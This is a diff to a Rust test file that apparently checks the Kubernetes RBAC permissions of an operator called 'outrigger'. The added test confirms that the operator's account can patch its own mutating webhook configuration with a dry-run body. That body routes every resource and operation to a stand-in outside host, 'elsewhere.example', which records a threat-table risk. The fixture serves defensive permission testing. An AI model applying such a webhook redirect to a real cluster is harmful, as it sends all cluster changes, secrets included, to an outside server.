@@ -146,8 +146,20 @@ fn is_allowed(account: &Account<'_>, (namespace, verb, group, resource, name): (
     answer["status"]["allowed"].as_bool().expect("a verdict")
 }
 
-/// What would do harm is refused, whatever the words of the rules.
-pub fn are_of_no_use_to_a_thief(account: &Account<'_>) {
+/// A right is for a whole object: who may set `caBundle` may send everything that is changed in the cluster to another server.
+/// The threat table says so; this holds it to that.
+pub fn on_our_configuration_are_for_all_of_it(account: &Account<'_>) {
+    let everything = json!({"webhooks": [{
+        "name": "pods.inject.outrigger.dev", "admissionReviewVersions": ["v1"], "sideEffects": "None",
+        "clientConfig": {"url": "https://elsewhere.example/mutate"},
+        "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*/*"]}],
+    }]});
+    account.may("PATCH", &format!("{}?dryRun=All", super::CONFIGURATION), &everything);
+    account.may_not("PATCH", &format!("{}/another?dryRun=All", super::CONFIGURATIONS), &everything);
+}
+
+/// What would do harm is refused, whatever the words of the rules; but for the one right that is told of above.
+pub fn are_of_no_other_use_to_a_thief(account: &Account<'_>) {
     // Otherwise nothing would be shown by what is refused.
     assert!(is_allowed(account, (OURS, "update", "coordination.k8s.io", "leases", "outrigger")));
     assert!(is_allowed(
